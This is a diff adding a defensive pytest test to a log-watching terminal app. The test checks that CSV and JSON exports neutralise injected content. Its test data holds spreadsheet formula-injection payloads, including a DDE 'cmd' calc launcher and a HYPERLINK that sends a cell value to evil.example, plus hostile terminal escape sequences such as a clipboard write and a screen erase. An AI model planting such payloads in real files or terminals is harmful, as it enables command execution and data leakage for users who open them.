@@ -109,3 +109,57 @@ def test_a_dashboard_that_crashed_ends_the_command_with_status_1(tmp_path: Path,
         watch_cmd.callback(paths=(str(log),), config=None, window=None, budget_fraction=None,  # type: ignore[misc]
                            trigger=None, reserve=None, fmt=None, poll=False, last=None)
     assert exc.value.code == 1
+
+
+#: Terminal controls a log may carry: erase display (CSI 2J), a clipboard write (OSC 52), a link (OSC 8), NUL, a
+#: one-byte C1 CSI (U+009B) and a right-to-left override (U+202E).
+CONTROLS = "gpt-4o\x1b[2J\x1b]52;c;aGVsbG8=\x07\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\\x00\x9b31m\u202eevil"
+#: The raw bytes none of which may be in an export (UTF-8 of ESC, BEL, NUL, U+009B, U+202E).
+RAW = (b"\x1b", b"\x07", b"\x00", "\x9b".encode(), "\u202e".encode())
+
+
+async def test_the_csv_export_holds_no_formula_and_no_control_and_the_plan_json_no_raw_control(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """x wrote a model ``=cmd|' /C calc'!A0`` or a session ``=HYPERLINK(...)`` as is (a spreadsheet evaluates
+    them) and terminal controls raw (``cat`` replayed them); w's JSON held raw C1 and bidi characters (orjson
+    escapes only U+0000-U+001F).  Text cells that start with a formula character now get a leading apostrophe
+    (OWASP), controls are escaped as the screen shows them, and numbers stay numbers; the JSON writes those
+    characters as \\u escapes, so it still holds the model exactly as logged."""
+    sessions = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-2+3", "@SUM(A1)", " =1", "\t=1"]
+    models = ["=cmd|' /C calc'!A0", "gpt-4o", "gpt-4o", "gpt-4o", "gpt-4o", CONTROLS]
+    log = tmp_path / "evil.jsonl"
+    recs = []
+    for i, (session, model) in enumerate(zip(sessions, models, strict=True)):
+        rec = record(i, turn_words=5, model=model)
+        rec["session"] = session
+        recs.append(rec)
+    log.write_text("".join(line(r) for r in recs), encoding="utf-8")
+    out = tmp_path / "out"
+    out.mkdir()
+    monkeypatch.chdir(out)
+    app = CtxwatchApp(str(log))
+    async with app.run_test(size=(120, 40)) as pilot:
+        await loaded(pilot, 6)
+        await pilot.press("x")
+        assert await wait_for(pilot, lambda: bool(app.saved))
+        screen = await open_preview(pilot)  # (of the last call, the one with the controls)
+        await pilot.press("w")
+        assert await wait_for(pilot, lambda: screen.written is not None)
+    (csv_path,) = out.glob("*.csv")
+    raw = csv_path.read_bytes()
+    assert [r for r in RAW if r in raw] == []
+    with open(csv_path, newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    assert rows[0]["model"] == "'=cmd|' /C calc'!A0"
+    assert [r["session"] for r in rows] == [  # (the TAB of the last one is a blank once cleaned)
+        '\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'+1", "'-2+3", "'@SUM(A1)", "' =1", "' =1"]
+    assert rows[5]["model"] == ("gpt-4o\\x1b[2J\\x1b]52;c;aGVsbG8=\\x07\\x1b]8;;http://evil.example\\x1b\\link"
+                                "\\x1b]8;;\\x1b\\\\x00\\x9b31m\\u202eevil")
+    # numbers are numbers: the reported prompt of call i is 1130 + 1064 i (record()), the call number i + 1
+    assert [(r["call"], r["prompt_tokens_reported"]) for r in rows] == [
+        (str(i + 1), str(1130 + 1064 * i)) for i in range(6)]
+    (json_path,) = out.glob("*.json")
+    raw = json_path.read_bytes()
+    assert [r for r in RAW if r in raw] == []
+    assert b"\\u009b31m\\u202eevil" in raw
+    assert json.loads(raw)["call"]["model"] == CONTROLS  # (escaped, not changed)
